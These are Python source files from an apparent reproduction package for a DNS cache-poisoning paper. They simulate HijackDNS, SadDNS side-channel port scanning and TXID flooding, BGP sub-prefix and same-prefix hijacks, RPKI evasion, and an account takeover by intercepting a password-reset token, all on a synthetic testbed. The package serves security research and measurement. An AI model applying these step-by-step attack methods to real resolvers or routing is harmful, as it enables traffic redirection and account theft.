    world = standard_testbed(seed="quickstart")
    testbed = world["testbed"]
    resolver = world["resolver"]

    # A legitimate client resolves vict.im before the attack.
    client = StubResolver(world["service"], RESOLVER_IP)
    print("before attack:", TARGET_DOMAIN, "->",
          client.lookup(TARGET_DOMAIN).addresses())
    resolver.cache.flush()  # let the TTL "expire" for the demo

    # The off-path attacker hijacks the nameserver's prefix, triggers a
    # query, and answers it first (it saw every challenge value).
    attacker = OffPathAttacker(world["attacker"])
    trigger = SpoofedClientTrigger(world["attacker"], RESOLVER_IP,
                                   SERVICE_IP,
                                   rng=attacker.rng.derive("trigger"))
    attack = HijackDnsAttack(attacker, testbed.network, resolver,
                             TARGET_DOMAIN, TARGET_NS_IP,
                             malicious_records=[])
    result = attack.execute(trigger)
    print(result.describe())

    # Every later client of the poisoned resolver is now redirected.
    answer = client.lookup(TARGET_DOMAIN)
    print("after attack: ", TARGET_DOMAIN, "->", answer.addresses())
    assert answer.addresses() == [attacker.address]
    print("cache entry poisoned:",
          resolver.cache.entry(TARGET_DOMAIN, 1).poisoned)


if __name__ == "__main__":
    main()
