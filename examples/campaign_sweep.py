#!/usr/bin/env python3
"""Multi-seed attack campaign: Table 6's ordering from one sweep.

Sweeps the three budget-capped methodology scenarios across N seeds
with the parallel campaign runner, prints the aggregated success rates,
hitrates and packet/duration percentiles, and reports the wall-clock
comparison against the serial reference loop.  Every seed is an
independent deterministic testbed, so the parallel and serial sweeps
produce bit-identical statistics — the executor only changes how long
you wait (on a multi-core host; a single-core container pays a small
process-pool tax instead).

Run:  python examples/campaign_sweep.py [--seeds 32] [--workers 8]
      [--serial-baseline]
"""

import argparse

from repro.scenario import Campaign, sweep_scenarios


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seeds", type=int, default=32,
                        help="independent testbeds per scenario")
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--serial-baseline", action="store_true",
                        help="also run the serial loop and report speedup")
    arguments = parser.parse_args()

    scenarios = sweep_scenarios()
    campaign = Campaign(workers=arguments.workers)
    result = campaign.run(scenarios, seeds=range(arguments.seeds))
    print(result.describe())

    methods = result.by_method()
    ordered = sorted(methods.values(), key=lambda s: -s.success_rate)
    print("\nsuccess-rate ordering:",
          " > ".join(f"{s.key} ({s.success_rate:.0%})" for s in ordered))

    if arguments.serial_baseline:
        serial = Campaign(executor="serial").run(
            scenarios, seeds=range(arguments.seeds))
        identical = [
            (r.label, r.seed, r.success, r.packets_sent)
            for r in result.runs
        ] == [
            (r.label, r.seed, r.success, r.packets_sent)
            for r in serial.runs
        ]
        print(f"serial loop: {serial.wall_clock:.1f}s;"
              f" {result.executor} x{result.workers}:"
              f" {result.wall_clock:.1f}s"
              f" (speedup {serial.wall_clock / result.wall_clock:.2f}x,"
              f" results identical: {identical})")


if __name__ == "__main__":
    main()
