#!/usr/bin/env python3
"""Attack-surface atlas walkthrough: shard, scan, resume, calibrate.

Four acts on one synthetic population (default: a slice of the paper's
1.58M open resolvers):

1. **determinism** — stream the population twice, once monolithically
   and once shard-by-shard, and show the checksums agree bit-for-bit;
2. **sharded scan** — run the Section 5 scanners over the shards
   (process workers where cores exist) and print the measured
   vulnerable fractions next to the paper's Table 3 row;
3. **resume** — rerun the same scan against the on-disk store and show
   it computes zero shards the second time;
4. **calibration** — stratify the scanned entities by vulnerability
   profile and validate the planner's verdicts with a stratified
   campaign of end-to-end attacks.

Run:  python examples/atlas_scan.py [--entities 50000] [--shards 8]
      [--workers 4] [--store .atlas-example-store]
"""

import argparse
import shutil

from repro.atlas import (
    AtlasStore,
    calibrate_population,
    find_dataset,
    iter_entities,
    scan_dataset,
    shard_ranges,
    stream_checksum,
)
from repro.atlas.cli import parse_seed


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--dataset", default="open")
    parser.add_argument("--entities", type=int, default=50_000)
    parser.add_argument("--shards", type=int, default=8)
    parser.add_argument("--workers", type=int, default=None)
    parser.add_argument("--seed", type=parse_seed, default=0)
    parser.add_argument("--store", default=".atlas-example-store")
    parser.add_argument("--keep-store", action="store_true",
                        help="leave the store directory behind")
    arguments = parser.parse_args()

    spec = find_dataset(arguments.dataset)
    entities = min(arguments.entities, spec.full_size)

    # Act 1: shard-merge == monolithic generation, proven on a slice.
    probe = min(entities, 2_000)
    monolithic = stream_checksum(
        iter_entities(spec, seed=arguments.seed, hi=probe))

    def sharded():
        for shard in shard_ranges(probe, arguments.shards):
            yield from iter_entities(spec, seed=arguments.seed,
                                     lo=shard.lo, hi=shard.hi)

    assert stream_checksum(sharded()) == monolithic
    print(f"[1] shard-merge == monolithic over {probe:,} entities "
          f"(checksum {monolithic[:16]}...)")

    # Act 2: the sharded scan.
    store = AtlasStore(arguments.store)
    report = scan_dataset(spec, seed=arguments.seed, entities=entities,
                          shards=arguments.shards,
                          workers=arguments.workers, store=store)
    measured = report.summary
    print(f"[2] scanned {report.entities:,} of {spec.full_size:,} "
          f"{spec.label!r} entities in {report.wall_clock:.1f}s "
          f"({report.entities_per_second:,.0f}/s, {report.executor}, "
          f"workers={report.workers})")
    print(f"    hijack {measured.pct('hijack'):.1f}% "
          f"(paper {spec.expected_hijack:.0f}%), "
          f"saddns {measured.pct('saddns'):.1f}% "
          f"(paper {spec.expected_saddns:.0f}%), "
          f"frag {measured.pct('frag'):.1f}% "
          f"(paper {spec.expected_frag:.0f}%)")

    # Act 3: resume from the store.
    again = scan_dataset(spec, seed=arguments.seed, entities=entities,
                         shards=arguments.shards,
                         workers=arguments.workers, store=store)
    assert again.computed_shards == []
    assert again.aggregate.to_json() == report.aggregate.to_json()
    print(f"[3] rerun loaded {len(again.cached_shards)} shards from "
          f"{arguments.store}, computed 0 — kill it mid-scan and only "
          "missing shards recompute")

    # Act 4: stratified campaign validation.
    calibration = calibrate_population(report.aggregate, spec.key,
                                       seed=arguments.seed,
                                       sample_budget=16,
                                       workers=arguments.workers)
    print("[4] " + calibration.describe().replace("\n", "\n    "))

    if not arguments.keep_store:
        shutil.rmtree(arguments.store, ignore_errors=True)


if __name__ == "__main__":
    main()
