#!/usr/bin/env python3
"""Run the paper's Section 5 Internet measurement study end to end.

Prints Tables 3 and 4, the Figure 3/4 distributions and the Figure 5
Venn regions from one seeded synthetic Internet.  Increase ``--scale``
for tighter statistics (0.01 samples ~16k of the 1.58M open resolvers);
for the *full* populations, use the sharded atlas instead
(``python -m repro.atlas scan`` or ``examples/atlas_scan.py``).

Run:  python examples/internet_survey.py [--scale 0.01] [--seed 0]
"""

import argparse

from repro.experiments import figure3, figure4, figure5, table3, table4


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=0.01,
                        help="population sampling fraction")
    parser.add_argument("--seed", type=int, default=0)
    arguments = parser.parse_args()

    for module in (table3, table4, figure3, figure4, figure5):
        result = module.run(seed=arguments.seed, scale=arguments.scale)
        print(result.rendered)
        for note in result.notes:
            print(f"  note: {note}")
        print()


if __name__ == "__main__":
    main()
