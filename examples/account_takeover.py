#!/usr/bin/env python3
"""Cross-layer account takeover via password recovery (paper §4.5).

The attacker wants Bob's account at a web service (think: an RIR SSO
portal controlling IP address space).  Bob's account is protected by a
password the attacker does not know — but recovery emails travel by MX
lookup through the *service's* resolver.  The kill-chain API runs the
whole §4.5 chain in one call:

1. the application stage ("recovery") stands up the portal, Bob's
   genuine mail server and the attacker's counterfeit one;
2. the attack phase (HijackDNS here; any methodology works) poisons
   the portal resolver's view of Bob's mail route;
3. the workload clicks "forgot password", the reset token lands on the
   attacker's server, gets redeemed, and the account changes hands.

Run:  python examples/account_takeover.py
"""

from repro.scenario import AppSpec, AttackScenario, TriggerSpec


def main() -> None:
    scenario = AttackScenario(
        method="hijack",
        app_spec=AppSpec(app="recovery"),
        trigger=TriggerSpec(kind="app"),   # the app fires the query
    )
    built = scenario.build(seed="takeover")
    chain = built.execute()

    print(chain.describe())
    print()
    stage = chain.app_result
    for outcome in stage.outcomes:
        print(" ", outcome.describe())
    assert chain.success and stage.realized and stage.takeover

    service = built.app_ctx["service"]
    evil_mail = built.app_ctx["evil_mail"]
    stolen = evil_mail.inboxes["bob"][-1].body
    print()
    print("attacker intercepted:", stolen)
    print("attacker can log in:",
          service.login("bob-account", "attacker-pw"))
    print("bob's old password works:",
          service.login("bob-account", "correct-horse"))
    print("\nWith the portal account, the attacker now controls the IP "
          "space and domains registered to it (paper §4.5).  Sweep this "
          "at scale with:  python -m repro.scenario sweep --apps recovery")


if __name__ == "__main__":
    main()
