#!/usr/bin/env python3
"""Cross-layer account takeover via password recovery (paper §4.5).

The attacker wants Bob's account at a web service (think: an RIR SSO
portal controlling IP address space).  Bob's account is protected by a
password the attacker does not know — but recovery emails travel by MX
lookup through the *service's* resolver:

1. poison ``mail.partner.im``'s A record at the service's resolver;
2. click "forgot password" for Bob's account;
3. the reset token lands on the attacker's mail server;
4. redeem the token, set a new password, own the account.

Run:  python examples/account_takeover.py
"""

from repro.apps.email_ import SmtpServer
from repro.apps.web import Account, PasswordRecoveryService
from repro.attacks.base import plant_poison
from repro.dns.records import rr_a, rr_mx
from repro.dns.stub import StubResolver
from repro.testbed import Testbed


def main() -> None:
    bed = Testbed(seed="takeover")
    bed.add_domain("rir-portal.im", "123.8.0.53", records=[
        rr_mx("rir-portal.im", 10, "mail.rir-portal.im"),
        rr_a("mail.rir-portal.im", "30.0.0.10"),
    ])
    bed.add_domain("partner.im", "123.8.1.53", records=[
        rr_mx("partner.im", 10, "mail.partner.im"),
        rr_a("mail.partner.im", "40.0.0.10"),
    ])
    resolver = bed.make_resolver("30.0.0.1")
    resolver.config.allowed_clients = ["30.0.0.0/24", "40.0.0.0/24"]

    portal_mail_host = bed.make_host("portal-mail", "30.0.0.10")
    portal_mail = SmtpServer(portal_mail_host,
                             StubResolver(portal_mail_host, "30.0.0.1"),
                             "rir-portal.im", users=["noc"])
    bob_mail_host = bed.make_host("bob-mail", "40.0.0.10")
    bob_mail = SmtpServer(bob_mail_host,
                          StubResolver(bob_mail_host, "30.0.0.1"),
                          "partner.im", users=["bob"])
    portal = PasswordRecoveryService(portal_mail)
    portal.register(Account("bob-lir", "bob@partner.im", "hunter2"))

    # Sanity: recovery normally reaches Bob.
    portal.request_recovery("bob-lir")
    print("recovery mail reached Bob's real server:",
          len(bob_mail.inboxes["bob"]), "message(s)")

    # The attack: poison the portal resolver's view of Bob's MX host.
    evil_host = bed.make_host("evil-mail", "6.6.6.7", spoofing=True)
    evil_mail = SmtpServer(evil_host, StubResolver(evil_host, "30.0.0.1"),
                           "partner.im", users=["bob"])
    plant_poison(resolver, [rr_a("mail.partner.im", "6.6.6.7", ttl=3600)])
    portal.request_recovery("bob-lir")
    stolen = evil_mail.inboxes["bob"][-1].body
    token = stolen.split(": ")[1]
    print("attacker intercepted reset token:", token)

    outcome = portal.redeem("bob-lir", token, "attacker-owns-this")
    print("token redeemed:", outcome.ok)
    print("attacker can log in:",
          portal.login("bob-lir", "attacker-owns-this"))
    print("bob's old password works:",
          portal.login("bob-lir", "hunter2"))
    print("\nWith the LIR account, the attacker now controls the IP "
          "space and domains registered to it (paper §4.5).")


if __name__ == "__main__":
    main()
