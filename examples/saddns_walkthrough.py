#!/usr/bin/env python3
"""SadDNS, step by step: watching the ICMP side channel work.

Narrates one attack iteration of paper Figure 1 on a resolver whose
ephemeral range is narrowed (so the demo converges in seconds — the
full 64k-port attack is the Table 6 bench):

1. mute the nameserver with a spoofed query flood (RRL does the rest);
2. trigger a query so the resolver parks an open UDP port waiting for
   the muted server;
3. scan: 50 spoofed probes burn the global ICMP budget *only* if every
   probed port is closed — the attacker's verification probe then
   reveals whether the batch hit the open port;
4. divide and conquer down to the exact port;
5. flood all 2^16 TXIDs at that port; one matches; the cache is ours.

Run:  python examples/saddns_walkthrough.py
"""

from repro.attacks import SadDnsConfig, cache_poisoned
from repro.netsim.host import HostConfig
from repro.scenario import AttackScenario
from repro.testbed import TARGET_DOMAIN

PORT_LOW, PORT_HIGH = 42000, 42511  # 512 candidate ports for the demo


def main() -> None:
    # Declared as a scenario: the SadDNS method defaults give the
    # nameserver its rate limiter; the narrowed ephemeral range is the
    # demo's only override.
    scenario = AttackScenario(
        method="saddns",
        resolver_host_config=HostConfig(ephemeral_low=PORT_LOW,
                                        ephemeral_high=PORT_HIGH),
        attack_config=SadDnsConfig(),
    )
    built = scenario.build(seed="saddns-demo")
    bed, resolver = built.testbed, built.resolver
    attacker, trigger, attack = built.attacker, built.trigger, built.attack

    print("[1] muting the nameserver with a spoofed query flood ...")
    attack.mute_nameserver()
    print("    nameserver muted:",
          built.target.server.is_muted(bed.now))

    print("[2] triggering the victim query (spoofed internal client) ...")
    trigger.fire(TARGET_DOMAIN, "A")
    bed.run(0.08)
    secret_port = next(iter(resolver.host.open_ports() - {53}))
    print(f"    (ground truth, invisible to the attacker: the resolver "
          f"waits on port {secret_port})")

    print("[3] scanning 50-port batches via the ICMP side channel ...")
    found_batch = None
    for start in range(PORT_LOW, PORT_HIGH + 1, 50):
        batch = list(range(start, min(start + 50, PORT_HIGH + 1)))
        hit = attack.probe_ports(batch)
        print(f"    ports {batch[0]}-{batch[-1]}: "
              f"{'OPEN PORT INSIDE' if hit else 'all closed'}")
        bed.run(0.055)  # let the ICMP budget refill
        if hit:
            found_batch = batch
            break

    print("[4] divide and conquer inside the hit batch ...")
    port = attack.isolate_port(found_batch)
    print(f"    side channel isolated port {port}"
          f" (truth: {secret_port})")

    print("[5] flooding 2^16 spoofed responses, one per TXID ...")
    attack.flood_txids(port, TARGET_DOMAIN)
    poisoned = cache_poisoned(resolver, TARGET_DOMAIN, attacker.address)
    print(f"    cache poisoned: {poisoned} — {TARGET_DOMAIN} now maps "
          f"to {attacker.address}")
    assert poisoned


if __name__ == "__main__":
    main()
