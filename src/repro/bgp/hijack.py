"""BGP prefix hijack primitives: control plane and data plane.

Two flavours from paper Section 4.4.1:

* **sub-prefix** — announce a more-specific prefix; longest-prefix match
  redirects *everyone* who accepts it (filtered past /24);
* **same-prefix** — announce the victim's exact prefix; only ASes that
  prefer the attacker's route (Gao-Rexford) are captured.

:class:`HijackCampaign` ties a control-plane hijack to the packet-level
:class:`~repro.netsim.network.Network` by installing an interceptor that
diverts in-flight packets for captured sources — that is what lets the
HijackDNS attack grab a single DNS query and answer it.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.bgp.prefix import MAX_ACCEPTED_PREFIX_LEN, Prefix
from repro.bgp.routing import BgpSimulation
from repro.netsim.host import Host
from repro.netsim.network import Network
from repro.netsim.packet import Ipv4Packet

#: The AS number the testbed's adversary announces hijacks from — the
#: single source of truth shared by the HijackDNS attack config, the
#: RPKI-ROV defense (repro.defenses.rov) and the rpki app driver: ROV
#: verdicts depend on the announcement origin matching this story.
ATTACKER_ASN = 666


@dataclass
class HijackOutcome:
    """Which sources were captured by a hijack announcement."""

    attacker_asn: int
    victim_asn: int
    prefix: Prefix
    kind: str                      # "sub-prefix" | "same-prefix"
    captured_sources: set[int] = field(default_factory=set)
    evaluated_sources: int = 0

    @property
    def capture_rate(self) -> float:
        """Fraction of evaluated source ASes routed to the attacker."""
        if not self.evaluated_sources:
            return 0.0
        return len(self.captured_sources) / self.evaluated_sources


def subprefix_hijack(simulation: BgpSimulation, attacker_asn: int,
                     victim_asn: int, victim_prefix: Prefix | str,
                     sources: list[int]) -> HijackOutcome:
    """Announce a more-specific prefix and evaluate capture per source."""
    if isinstance(victim_prefix, str):
        victim_prefix = Prefix.parse(victim_prefix)
    outcome = HijackOutcome(
        attacker_asn=attacker_asn, victim_asn=victim_asn,
        prefix=victim_prefix, kind="sub-prefix",
        evaluated_sources=len(sources),
    )
    if not victim_prefix.hijackable_by_subprefix:
        return outcome  # a /24 (or longer) cannot be deaggregated further
    more_specific = victim_prefix.subprefix(extra_bits=1)
    simulation.announce(more_specific, attacker_asn)
    try:
        probe = more_specific  # any address inside the sub-prefix
        from repro.netsim.addresses import int_to_ip

        address = int_to_ip(probe.network + 1)
        for source in sources:
            if simulation.forwarding_origin(source, address) == attacker_asn:
                outcome.captured_sources.add(source)
    finally:
        simulation.withdraw(more_specific, attacker_asn)
    return outcome


def sameprefix_hijack(simulation: BgpSimulation, attacker_asn: int,
                      victim_asn: int, victim_prefix: Prefix | str,
                      sources: list[int]) -> HijackOutcome:
    """Announce the victim's exact prefix and evaluate capture per source."""
    if isinstance(victim_prefix, str):
        victim_prefix = Prefix.parse(victim_prefix)
    outcome = HijackOutcome(
        attacker_asn=attacker_asn, victim_asn=victim_asn,
        prefix=victim_prefix, kind="same-prefix",
        evaluated_sources=len(sources),
    )
    simulation.announce(victim_prefix, attacker_asn)
    try:
        for source in sources:
            if simulation.best_origin(source, victim_prefix) == attacker_asn:
                outcome.captured_sources.add(source)
    finally:
        simulation.withdraw(victim_prefix, attacker_asn)
    return outcome


class HijackCampaign:
    """A live hijack on the packet network: divert, inspect, relay.

    While active, packets whose destination falls inside ``prefix`` are
    delivered to the attacker's host instead of the owner.  The attacker
    decides per packet whether to consume it or relay it onward (the
    paper's stealth requirement: relay everything except the DNS query
    being raced).
    """

    def __init__(self, network: Network, attacker_host: Host,
                 prefix: Prefix | str,
                 capture_filter=None):
        if isinstance(prefix, str):
            prefix = Prefix.parse(prefix)
        self.network = network
        self.attacker_host = attacker_host
        self.prefix = prefix
        self.capture_filter = capture_filter
        self.active = False
        self.diverted = 0
        self.relayed = 0

    def _intercept(self, packet: Ipv4Packet, origin: Host | None):
        if origin is self.attacker_host:
            return None  # never divert the attacker's own (relay) traffic
        if not self.prefix.contains_ip(packet.dst):
            return None
        if self.capture_filter is not None \
                and not self.capture_filter(packet):
            return None
        self.diverted += 1
        return self.attacker_host

    def start(self) -> None:
        """Begin diverting (announce the hijack)."""
        if self.active:
            return
        self.network.add_interceptor(self._intercept)
        self.active = True

    def stop(self) -> None:
        """Withdraw the hijack."""
        if not self.active:
            return
        self.network.remove_interceptor(self._intercept)
        self.active = False

    def relay(self, packet: Ipv4Packet) -> None:
        """Forward a diverted packet to its real owner (stealth relay)."""
        owner = self.network.host_for(packet.dst)
        if owner is None:
            return
        self.relayed += 1
        latency = self.network.latency_between(packet.src, packet.dst)
        self.network.scheduler.schedule(latency, owner.receive, packet)

    def __enter__(self) -> "HijackCampaign":
        self.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()
