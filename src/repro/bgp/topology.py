"""AS-level Internet topology with business relationships.

The paper simulates same-prefix hijacks over the CAIDA AS-relationship
graph with Gao-Rexford policies ([39] in the paper, Section 5.1.2).  The
CAIDA dataset is not available offline, so :func:`generate_topology`
builds a synthetic graph with the same structural ingredients: a clique
of tier-1 providers, a middle layer of transit ASes attached by
preferential attachment (yielding a heavy-tailed customer degree), stub
ASes at the edge, and a sprinkling of peering links.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.core.rng import DeterministicRNG


class Relationship(Enum):
    """Business relationship of a neighbour, from the local AS's view."""

    CUSTOMER = "customer"
    PEER = "peer"
    PROVIDER = "provider"


class AsTier(Enum):
    """Coarse AS size classes used by the paper's simulator."""

    TIER1 = "tier1"
    MEDIUM = "medium"
    SMALL = "small"
    STUB = "stub"


@dataclass
class AutonomousSystem:
    """One AS: number, tier, and its relationship-labelled neighbours."""

    asn: int
    tier: AsTier = AsTier.STUB
    customers: set[int] = field(default_factory=set)
    peers: set[int] = field(default_factory=set)
    providers: set[int] = field(default_factory=set)

    @property
    def degree(self) -> int:
        """Total neighbour count."""
        return len(self.customers) + len(self.peers) + len(self.providers)


class AsTopology:
    """A mutable AS graph with provider/customer/peer edges."""

    def __init__(self) -> None:
        self._ases: dict[int, AutonomousSystem] = {}

    def add_as(self, asn: int, tier: AsTier = AsTier.STUB) -> AutonomousSystem:
        """Create an AS (idempotent; tier upgraded if already present)."""
        if asn not in self._ases:
            self._ases[asn] = AutonomousSystem(asn=asn, tier=tier)
        return self._ases[asn]

    def get(self, asn: int) -> AutonomousSystem:
        """AS by number (KeyError if unknown)."""
        return self._ases[asn]

    def __contains__(self, asn: int) -> bool:
        return asn in self._ases

    def __len__(self) -> int:
        return len(self._ases)

    @property
    def asns(self) -> list[int]:
        """All AS numbers."""
        return list(self._ases)

    def add_provider_customer(self, provider: int, customer: int) -> None:
        """Create a provider→customer edge."""
        if provider == customer:
            raise ValueError("an AS cannot be its own provider")
        self.add_as(provider)
        self.add_as(customer)
        self._ases[provider].customers.add(customer)
        self._ases[customer].providers.add(provider)

    def add_peering(self, left: int, right: int) -> None:
        """Create a settlement-free peering edge."""
        if left == right:
            raise ValueError("an AS cannot peer with itself")
        self.add_as(left)
        self.add_as(right)
        self._ases[left].peers.add(right)
        self._ases[right].peers.add(left)

    def relationship(self, local: int, neighbor: int) -> Relationship | None:
        """How ``local`` sees ``neighbor``, or None if not adjacent."""
        as_obj = self._ases[local]
        if neighbor in as_obj.customers:
            return Relationship.CUSTOMER
        if neighbor in as_obj.peers:
            return Relationship.PEER
        if neighbor in as_obj.providers:
            return Relationship.PROVIDER
        return None

    def tier_members(self, tier: AsTier) -> list[int]:
        """All ASes of the given tier."""
        return [asn for asn, a in self._ases.items() if a.tier == tier]


def generate_topology(rng: DeterministicRNG,
                      n_tier1: int = 8,
                      n_medium: int = 60,
                      n_small: int = 200,
                      n_stub: int = 800,
                      peering_fraction: float = 0.15) -> AsTopology:
    """Build a synthetic CAIDA-like topology.

    Structure: tier-1 clique of peers; medium ASes multi-home to 2 tier-1
    (or medium) providers chosen by preferential attachment; small ASes
    multi-home to 1-2 medium/small providers; stubs single- or dual-home
    to small/medium providers.  ``peering_fraction`` of medium/small
    pairs get lateral peering links.
    """
    topology = AsTopology()
    next_asn = 1
    tier1: list[int] = []
    for _ in range(n_tier1):
        topology.add_as(next_asn, AsTier.TIER1)
        tier1.append(next_asn)
        next_asn += 1
    for i, left in enumerate(tier1):
        for right in tier1[i + 1:]:
            topology.add_peering(left, right)

    def weighted_pick(candidates: list[int]) -> int:
        weights = [topology.get(c).degree + 1 for c in candidates]
        total = sum(weights)
        point = rng.random() * total
        acc = 0.0
        for candidate, weight in zip(candidates, weights):
            acc += weight
            if point <= acc:
                return candidate
        return candidates[-1]

    medium: list[int] = []
    for _ in range(n_medium):
        asn = next_asn
        next_asn += 1
        topology.add_as(asn, AsTier.MEDIUM)
        provider_pool = tier1 + medium
        for _ in range(2):
            provider = weighted_pick(provider_pool)
            if provider != asn and provider not in topology.get(asn).providers:
                topology.add_provider_customer(provider, asn)
        medium.append(asn)

    small: list[int] = []
    for _ in range(n_small):
        asn = next_asn
        next_asn += 1
        topology.add_as(asn, AsTier.SMALL)
        provider_pool = medium + small if small else medium
        count = 1 + (1 if rng.chance(0.5) else 0)
        for _ in range(count):
            provider = weighted_pick(provider_pool)
            if provider != asn and provider not in topology.get(asn).providers:
                topology.add_provider_customer(provider, asn)
        small.append(asn)

    for _ in range(n_stub):
        asn = next_asn
        next_asn += 1
        topology.add_as(asn, AsTier.STUB)
        provider_pool = small + medium
        count = 1 + (1 if rng.chance(0.3) else 0)
        for _ in range(count):
            provider = weighted_pick(provider_pool)
            if provider != asn and provider not in topology.get(asn).providers:
                topology.add_provider_customer(provider, asn)

    lateral_pool = medium + small
    n_peerings = int(len(lateral_pool) * peering_fraction)
    for _ in range(n_peerings):
        left = rng.choice(lateral_pool)
        right = rng.choice(lateral_pool)
        if left == right:
            continue
        if topology.relationship(left, right) is not None:
            continue
        topology.add_peering(left, right)
    return topology
