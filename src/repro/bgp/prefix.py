"""IP prefixes and longest-prefix-match tables.

HijackDNS is decided by longest-prefix match: a /24 sub-prefix
announcement beats the victim's /22 everywhere it propagates, while
announcements more specific than /24 are filtered by convention — the
fact that drives the paper's "advertised size larger than /24 means
hijackable" measurement (Section 5.1.2, Figure 3).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.netsim.addresses import int_to_ip, ip_to_int, prefix_mask

MAX_ACCEPTED_PREFIX_LEN = 24


@dataclass(frozen=True, order=True)
class Prefix:
    """An IPv4 prefix as (network int, length)."""

    network: int
    length: int

    def __post_init__(self) -> None:
        if not 0 <= self.length <= 32:
            raise ValueError(f"bad prefix length: {self.length}")
        if self.network & ~prefix_mask(self.length) & 0xFFFFFFFF:
            raise ValueError("host bits set in prefix network")

    @classmethod
    def parse(cls, text: str) -> "Prefix":
        """Parse ``"a.b.c.d/len"``; host bits are masked off."""
        network, _, length_text = text.partition("/")
        length = int(length_text)
        base = ip_to_int(network) & prefix_mask(length)
        return cls(network=base, length=length)

    def __str__(self) -> str:
        return f"{int_to_ip(self.network)}/{self.length}"

    def contains_ip(self, address: str) -> bool:
        """True if ``address`` falls inside this prefix."""
        return (ip_to_int(address) & prefix_mask(self.length)) == self.network

    def contains(self, other: "Prefix") -> bool:
        """True if ``other`` is equal to or more specific than us."""
        if other.length < self.length:
            return False
        return (other.network & prefix_mask(self.length)) == self.network

    def subprefix(self, extra_bits: int = 1, index: int = 0) -> "Prefix":
        """A more-specific prefix inside this one (hijack helper)."""
        new_length = self.length + extra_bits
        if new_length > 32:
            raise ValueError("cannot deaggregate past /32")
        shift = 32 - new_length
        base = self.network | (index << shift)
        return Prefix(network=base & prefix_mask(new_length),
                      length=new_length)

    @property
    def hijackable_by_subprefix(self) -> bool:
        """Whether a sub-prefix would still pass the /24 filter."""
        return self.length < MAX_ACCEPTED_PREFIX_LEN


class PrefixTable:
    """Longest-prefix-match table mapping prefixes to arbitrary values."""

    def __init__(self) -> None:
        self._by_length: dict[int, dict[int, object]] = {}

    def insert(self, prefix: Prefix, value: object) -> None:
        """Insert/replace the entry for ``prefix``."""
        self._by_length.setdefault(prefix.length, {})[prefix.network] = value

    def remove(self, prefix: Prefix) -> None:
        """Remove the entry for ``prefix`` if present."""
        bucket = self._by_length.get(prefix.length)
        if bucket is not None:
            bucket.pop(prefix.network, None)
            if not bucket:
                del self._by_length[prefix.length]

    def lookup(self, address: str) -> tuple[Prefix, object] | None:
        """Longest-prefix match for an address."""
        value = ip_to_int(address)
        for length in sorted(self._by_length, reverse=True):
            masked = value & prefix_mask(length)
            bucket = self._by_length[length]
            if masked in bucket:
                return (Prefix(network=masked, length=length),
                        bucket[masked])
        return None

    def covering(self, address: str) -> list[tuple[Prefix, object]]:
        """All table entries containing the address, most specific first."""
        value = ip_to_int(address)
        found = []
        for length in sorted(self._by_length, reverse=True):
            masked = value & prefix_mask(length)
            bucket = self._by_length[length]
            if masked in bucket:
                found.append((Prefix(network=masked, length=length),
                              bucket[masked]))
        return found

    def __len__(self) -> int:
        return sum(len(bucket) for bucket in self._by_length.values())

    def items(self):
        """Iterate (prefix, value) pairs."""
        for length, bucket in self._by_length.items():
            for network, value in bucket.items():
                yield Prefix(network=network, length=length), value
