"""Interdomain routing substrate: topology, Gao-Rexford routing, hijacks, RPKI."""

from repro.bgp.hijack import (
    HijackCampaign,
    HijackOutcome,
    sameprefix_hijack,
    subprefix_hijack,
)
from repro.bgp.prefix import MAX_ACCEPTED_PREFIX_LEN, Prefix, PrefixTable
from repro.bgp.routing import Announcement, BgpSimulation, Route, propagate
from repro.bgp.rpki import (
    INVALID,
    RelyingParty,
    Roa,
    RpkiRepository,
    UNKNOWN,
    VALID,
    validate_origin,
)
from repro.bgp.topology import (
    AsTier,
    AsTopology,
    AutonomousSystem,
    Relationship,
    generate_topology,
)

__all__ = [
    "Announcement",
    "AsTier",
    "AsTopology",
    "AutonomousSystem",
    "BgpSimulation",
    "HijackCampaign",
    "HijackOutcome",
    "INVALID",
    "MAX_ACCEPTED_PREFIX_LEN",
    "Prefix",
    "PrefixTable",
    "RelyingParty",
    "Relationship",
    "Roa",
    "Route",
    "RpkiRepository",
    "UNKNOWN",
    "VALID",
    "generate_topology",
    "propagate",
    "sameprefix_hijack",
    "subprefix_hijack",
    "validate_origin",
]
