"""RPKI: ROAs, the relying-party validator, and route origin validation.

The paper's headline cross-layer result (Section 4 intro and Table 1,
"RPKI / Repository sync."): the relying party (RPKI validator / "RPKI
cache", RFC 6810) locates its repositories *by DNS name*.  Poison that
name and the validator cannot fetch ROAs; the affected announcements then
validate to ``unknown`` rather than ``invalid`` — and ROV deployments do
not drop unknowns, because most of the Internet's routes are unknown.
The attacker may then launch the very BGP hijack that RPKI existed to
prevent.

Validation states follow RFC 6811: ``valid``, ``invalid``, ``unknown``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.bgp.prefix import Prefix
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

RPKI_REPO_PORT = 873  # rsync, as in classic RPKI repositories

VALID = "valid"
INVALID = "invalid"
UNKNOWN = "unknown"


@dataclass(frozen=True)
class Roa:
    """A Route Origin Authorization: prefix, max length, authorised AS."""

    prefix: Prefix
    max_length: int
    origin: int

    def covers(self, prefix: Prefix) -> bool:
        """True if ``prefix`` falls under this ROA's prefix and maxLength."""
        return self.prefix.contains(prefix) \
            and prefix.length <= self.max_length


def validate_origin(roas: list[Roa], prefix: Prefix, origin: int) -> str:
    """RFC 6811 origin validation against a ROA set."""
    matched = False
    for roa in roas:
        if roa.prefix.contains(prefix):
            matched = True
            if roa.covers(prefix) and roa.origin == origin:
                return VALID
    return INVALID if matched else UNKNOWN


class RpkiRepository:
    """A publication point serving ROA objects over a reliable stream.

    The repository host must be reachable at the address its DNS name
    resolves to — that resolution is the attack surface.
    """

    def __init__(self, host: Host, hostname: str):
        self.host = host
        self.hostname = hostname
        self._roas: list[Roa] = []
        host.stream_handlers[RPKI_REPO_PORT] = self._serve

    def publish(self, roa: Roa) -> None:
        """Add a ROA to the publication point."""
        self._roas.append(roa)

    @property
    def roas(self) -> list[Roa]:
        """Currently published ROAs."""
